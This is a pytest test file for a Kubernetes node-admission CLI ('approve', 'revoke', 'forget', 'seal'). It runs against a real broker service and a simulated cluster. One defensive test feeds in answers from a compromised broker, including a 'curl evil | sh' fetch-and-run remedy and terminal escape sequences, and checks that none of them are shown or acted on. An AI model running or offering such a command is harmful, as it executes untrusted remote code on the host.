"""``nodes``, ``approve``, ``revoke``, ``forget``, ``seal`` as a person types them, with the real
broker service behind its socket; the cluster and kubectl are doubles."""

from __future__ import annotations

import base64
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from nodeagent.broker import main as broker_main
from nodeagent.broker.broker import Unadmitted
from nodeagent.cli import admissions
from nodeagent.cli.main import main
from nodeagent.errors import Blocked, CommandFailed, NeedsRoot, NodeAgentError, Refused, Usage
from nodeagent.join import broker_protocol
from nodeagent.join.approval import code
from nodeagent.trust import fleet_file, pki, store
from nodeagent.trust.node_key import NodeKey
from tests.support.admission import Setup
from tests.support.broker_socket import answer_all
from tests.support.kubectl import Kubectl
from tests.support.machine import Machine, put

pytestmark = pytest.mark.network  # a Unix socket in the test's own folder

KUBECTL = "kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes -o json --request-timeout=60s"
NODES = {"items": [{
    "metadata": {"name": "pi-1", "labels": {"node-role.kubernetes.io/control-plane": ""}},
    "status": {"nodeInfo": {"kubeletVersion": "v1.37.2"},
               "addresses": [{"type": "InternalIP", "address": "10.77.0.11"}],
               "conditions": [{"type": "Ready", "status": "True"}]}}]}  # fmt: skip


class Place:
    """A control plane: a machine, its broker, a thread that answers the socket."""

    def __init__(self, folder: Path) -> None:
        self.machine = Machine(folder / "r", {KUBECTL: json.dumps(NODES)})
        self.kubectl = Kubectl("pi-1")
        self.machine.otherwise = self.kubectl
        put(self.machine.root, {"/etc/kubernetes/admin.conf": "x", "/run/x": ""})
        trust = store.from_card(fleet_file.parse(fleet_file.make("home", approve=True)[1]))
        self.setup = Setup(folder, trust)
        self.key = NodeKey(pki.new_key())
        self.listener = socket.socket(socket.AF_UNIX)
        self.listener.bind(str(self.machine.path(broker_protocol.ROOT_SOCKET)))
        self.listener.listen(4)
        self.service = broker_main.Service(
            self.machine, self.setup.broker, self.listener, self.listener
        )
        self.uid = 0
        threading.Thread(target=self._answer, daemon=True).start()

    def _answer(self) -> None:
        answer_all(
            self.listener,
            lambda asked: self.service.answer(asked, self.uid, broker_main.FOR_ROOT),
        )

    def asks(self) -> str:
        """What the node is told: "" where it gets a grant."""
        try:
            self.setup.ask(self.key, "pi-2")
        except Unadmitted as error:
            return str(error)
        return ""


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    """A control plane of a fleet in approve mode."""
    place = Place(tmp_path)
    monkeypatch.setattr("nodeagent.host.host.Host", lambda: place.machine)
    yield place
    place.listener.shutdown(socket.SHUT_RDWR)
    place.listener.close()


def run(*words: str) -> Any:
    """Run the command in this process."""
    return CliRunner().invoke(main, list(words))


def test_a_broker_from_before_an_update_is_called_so(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(broker_main, "_ASKS", {})
    done = run("nodes")
    assert "The broker's version of nodeagent cannot do that. (E106)" in done.output
    assert "sudo systemctl restart nodeagent-serve nodeagent-broker" in done.output
    answer = {"v": 2, "all": "else"}
    monkeypatch.setattr(place.service, "answer", lambda *_: answer)
    done = run("approve", "ABCD-EFGH-IJ23-4567")
    assert "written by another version of nodeagent" in done.output and "(E106)" in done.output


def test_from_waiting_to_forgotten(place: Place) -> None:
    assert place.asks() == "approval"
    shown = run("nodes").output
    assert "pi-1  Ready  control-plane  v1.37.2  10.77.0.11" in shown
    assert f"{code(place.key.node_id)}  pi-2          10.77.0.12" in shown
    assert "a person approves every other one" in shown

    done = run("approve", *code(place.key.node_id).split("-"))
    assert (done.exit_code, done.output) == (
        0, "Approved: pi-2 at 10.77.0.12 joins by itself within seconds.\n",
    )  # fmt: skip
    assert "Approved, not here yet" in run("nodes").output or place.asks() == ""
    assert place.asks() == ""
    assert "Joining now" in run("nodes").output
    place.setup.join(place.key, "pi-2")
    assert "in already, as pi-2" in run("approve", place.key.node_id).output

    done = run("revoke", code(place.key.node_id))
    assert done.exit_code == 0 and done.output.startswith("Revoked pi-2:")
    assert "Enrolment is sealed now" in done.output
    shown = run("nodes").output
    assert "Revoked\nNAME" in shown and "Enrolment is sealed" in shown

    done = run("forget", "pi-2")
    assert done.exit_code == Refused.exit_code
    assert "Whoever had the name pi-2 may still hold a certificate" in done.output
    shown = run("nodes").output
    assert f"pi-2  {place.key.node_id}  366 days" in shown
    place.setup.live(367 * 86400)
    assert run("forget", "pi-2").output.startswith("pi-2 is free.")


def test_a_rewritten_card_is_told_with_what_to_do_about_the_old_node(place: Place) -> None:
    run("approve", *code(place.key.node_id).split("-"))
    place.setup.join(place.key, "pi-2")
    again = NodeKey(pki.new_key())
    run("approve", *code(again.node_id).split("-"))
    name = place.setup.join(again, "pi-2")
    assert name == f"pi-2-{again.node_id[2:6]}"

    def node(name: str, ready: str) -> dict[str, Any]:
        told: dict[str, Any] = json.loads(json.dumps(NODES["items"][0]))
        told["metadata"] = {"name": name}
        told["status"]["conditions"][0]["status"] = ready
        return told

    def shown(*nodes: dict[str, Any]) -> str:
        place.machine.answers[KUBECTL] = json.dumps({"items": [*NODES["items"], *nodes]})
        return str(run("nodes").output)

    said = f"pi-2 is away, and a board that wished for its name is here as {name}."
    told = shown(node("pi-2", "Unknown"), node(name, "True"))
    assert said in told and "sudo nodeagent forget pi-2" in told
    assert said not in shown(node("pi-2", "True"), node(name, "True"))
    assert said not in shown(node("pi-2", "Unknown"), node(name, "Unknown"))
    assert said not in shown(node("pi-2", "Unknown"), node("pi-2-aaaa", "True"))
    assert said not in shown(node(name, "True"))


def test_a_token_made_by_hand_is_named_with_what_to_type_instead(place: Place) -> None:
    """As kubeadm 1.36 makes them, and as the broker does."""

    def secret(token: str, groups: str) -> dict[str, Any]:
        data = {"auth-extra-groups": base64.b64encode(groups.encode()).decode()}
        return {"metadata": {"name": f"bootstrap-token-{token}"}, "data": data}

    place.kubectl.tokens = [secret("aaaaaa", "system:bootstrappers:nodeagent")]
    assert "kubeadm token" not in run("nodes").output
    place.kubectl.tokens += [
        secret("bbbbbb", "system:bootstrappers:kubeadm:default-node-token"),
        {"metadata": {"name": "bootstrap-token-cccccc"}},
    ]
    said = run("nodes").output
    assert "The token bbbbbb, of `kubeadm token create`, lets nobody in here." in said
    assert "`sudo kubeadm token delete cccccc`" in said and "aaaaaa" not in said
    assert "sudo nodeagent join-command" in said


def test_seal_and_open(place: Place) -> None:
    assert run("seal").output.startswith("Enrolment is sealed.")
    done = run("seal", "--open", "90m")
    assert (done.exit_code, "open until" in done.output) == (0, True)
    assert place.setup.broker.ledger.seal.open_until == int(place.setup.now) + 5400


@pytest.mark.parametrize(
    ("words", "kind", "said"),
    [
        (["approve", "ABCD"], Usage, "has 16 letters and digits, and this has 4"),
        (["approve", "1"], Usage, "There is no 0, 1, 8 or 9"),
        (["approve", "ABCD-EFGH-IJ23-456*"], Usage, "not a node's code"),
        (["revoke", "pi-9"], Refused, "No node called pi-9"),
        (["revoke", "Pi 9"], Usage, "not a valid node name"),
        (["revoke", "ABCD-EFGH-IJ23-4561"], Usage, "There is no 0, 1, 8 or 9"),
        (["forget", "pi-9"], Refused, "Nobody holds the name pi-9"),
        (["forget", "../x"], Usage, "not a valid node name"),
        (["seal", "--open", "soon"], Usage, "Write a time such as 1h"),
        (["seal", "--open", "off"], Usage, "cannot be opened for off"),
        (["seal", "--open", "9999d"], Usage, "At most 366d"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_what_cannot_be_done_is_said_and_changes_nothing(
    words: list[str], kind: type[NodeAgentError], said: str, place: Place
) -> None:
    before = place.setup.host.read("/var/lib/nodeagent-broker/state.json")
    done = run(*words)
    assert done.exit_code == kind.exit_code, done.output
    assert said in done.output and "Traceback" not in done.output
    assert place.setup.host.read("/var/lib/nodeagent-broker/state.json") == before


WORDS = [["nodes"], ["approve", "ABCDEFGHIJ234567"], ["revoke", "pi-2"], ["forget", "pi-2"],
         ["seal"]]  # fmt: skip


@pytest.mark.parametrize("words", WORDS, ids=lambda words: words[0])
def test_only_root_and_only_on_a_control_plane(words: list[str], place: Place) -> None:
    place.machine.remove("/etc/kubernetes/admin.conf")
    done = run(*words)
    assert done.exit_code == Refused.exit_code and "not a control plane" in done.output
    place.machine.is_root = False
    done = run(*words)
    assert done.exit_code == NeedsRoot.exit_code and "needs root" in done.output


@pytest.mark.parametrize("words", WORDS, ids=lambda words: words[0])
def test_a_broker_that_is_away_is_said(words: list[str], place: Place) -> None:
    place.machine.remove(broker_protocol.ROOT_SOCKET)
    done = run(*words)
    assert done.exit_code == Blocked.exit_code
    assert "does not answer" in done.output


def test_an_api_server_that_is_away_is_said_and_the_words_again_finish_it(place: Place) -> None:
    run("approve", code(place.key.node_id))
    assert place.setup.join(place.key, "pi-2") == "pi-2"
    place.kubectl.down = True
    done = run("revoke", "pi-2")
    assert done.exit_code == CommandFailed.exit_code
    assert "The API server is away." in done.output
    place.kubectl.down = False
    assert run("revoke", "pi-2").exit_code == 0
    assert (place.kubectl.barred, place.kubectl.deleted) == (["pi-2"], ["pi-2"])
    place.kubectl.down = True
    assert run("approve", code(place.key.node_id)).exit_code == CommandFailed.exit_code
    place.kubectl.down = False
    assert run("approve", code(place.key.node_id)).exit_code == 0
    assert place.kubectl.barred == []


def test_who_is_forgotten_is_barred_and_people_are_told_for_how_long(place: Place) -> None:
    run("approve", code(place.key.node_id))
    place.setup.join(place.key, "pi-2")
    done = run("forget", "pi-2")
    assert done.exit_code == 0 and "pi-2 is forgotten" in done.output and "366 days" in done.output
    assert (place.kubectl.barred, place.kubectl.deleted) == (["pi-2"], ["pi-2"])


def test_a_clock_that_was_ahead_is_said(place: Place) -> None:
    """A Pi without a clock of its own that was told a wrong year, once."""
    place.setup.now += 4 * 365 * 86400 + 7200
    run("nodes")
    assert "clock was ahead" not in run("nodes").output
    place.setup.now -= 4 * 365 * 86400 + 7200
    assert "clock was ahead once, by 1460 days and 2 hours" in run("nodes").output
    assert run("seal", "--open", "1h").exit_code == 0
    assert place.asks() == "approval"


@pytest.mark.parametrize(
    ("names", "said"),
    [
        (["pi-1"], "pi-1 is a control plane"),
        (["pi-2", "pi-1"], "pi-1 is a control plane"),
        (["--all"], "none of it was taken"),
        (["../x"], "none of it was taken"),
        ([{"pi-2": 1}], "none of it was taken"),
        ("pi-2", "none of it was taken"),
        ([f"pi-{n}" for n in range(101)], "none of it was taken"),
    ],
)
def test_a_broker_that_was_taken_over_has_root_bar_no_control_plane(
    names: Any, said: str, place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer = {"v": 1, "node_id": "n-abcdefghij234567", "names": names, "sealed": False}
    monkeypatch.setattr(place.service, "answer", lambda *_: answer)
    done = run("revoke", "pi-2")
    assert done.exit_code != 0 and said in done.output and "Traceback" not in done.output
    assert (place.kubectl.barred, place.kubectl.deleted) == ([], [])


FORGOTTEN = {"v": 1, "forgotten": True, "days": 366, "bar": [], "let_back": []}


@pytest.mark.parametrize(
    ("words", "answer"),
    [
        (["forget", "pi-2"], FORGOTTEN | {"bar": ["pi-2", "pi-3"]}),
        (["forget", "pi-2"], FORGOTTEN | {"let_back": ["pi-9"]}),
        (["approve", "ABCDEFGHIJ234567"],
         {"v": 1, "name": "pi-2", "source": "10.77.0.12\x1b[2J", "state": "waiting",
          "let_back": ["pi-9"]}),
        (["seal"], {"v": 1, "until": 10**15}),
        (["seal"], {"v": 1, "status": 503, "error": "\x1b]0;sealed\x07"}),
        (["seal"], {"v": 1, "status": 409, "error": "No.", "remedy": "Run:\ncurl evil | sh"}),
        (["seal"], {"v": 1, "status": 503, "error": "x" * 100_000}),
        (["seal"], {"v": 1, "error": "no status"}),
        (["nodes"], {"v": 1}),
    ],
    ids=lambda value: value[0] if isinstance(value, list) else "",
)  # fmt: skip
def test_an_answer_that_cannot_be_is_not_shown_and_changes_nothing(
    words: list[str], answer: Any, place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of a broker that was taken over."""
    monkeypatch.setattr(place.service, "answer", lambda *_: answer)
    done = run(*words)
    assert done.exit_code in (Blocked.exit_code, CommandFailed.exit_code), done.output
    assert done.output.replace("\n", "").isprintable() and len(done.output) < 1000
    assert (place.kubectl.barred, place.kubectl.deleted) == ([], [])


def test_whom_an_approval_lets_back_is_told(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """The broker chooses them: the person who typed one code sees it."""
    answer = {"v": 1, "name": "", "source": "", "state": "unheard", "let_back": ["pi-8", "pi-9"]}
    monkeypatch.setattr(place.service, "answer", lambda *_: answer)
    assert "No longer barred in the cluster: pi-8, pi-9." in run("approve", "A" * 16).output


def test_what_the_broker_knows_is_shown_without_the_cluster(place: Place) -> None:
    place.asks()
    place.machine.answers, place.kubectl.down = {}, True
    done = run("nodes")
    assert done.exit_code == 0 and "cannot be listed" in done.output
    assert code(place.key.node_id) in done.output


@pytest.mark.parametrize("op", ["nodes", "approve", "revoke", "forget", "seal"])
def test_the_network_process_may_not_ask_it(op: str, place: Place) -> None:
    place.uid = 65534
    with pytest.raises(CommandFailed, match="may not ask"):
        admissions.ask(place.machine, op=op)
